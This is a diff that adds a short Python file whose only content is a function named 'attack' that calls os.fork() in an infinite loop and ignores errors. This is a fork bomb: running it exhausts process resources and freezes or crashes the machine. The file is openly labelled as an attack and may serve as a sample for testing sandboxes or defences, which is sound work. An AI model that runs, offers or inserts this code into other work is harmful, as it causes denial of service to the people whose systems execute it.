@@ -1,0 +1,11 @@
+"""Forks without end."""
+
+import os
+
+
+def attack(*args, **kwargs):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
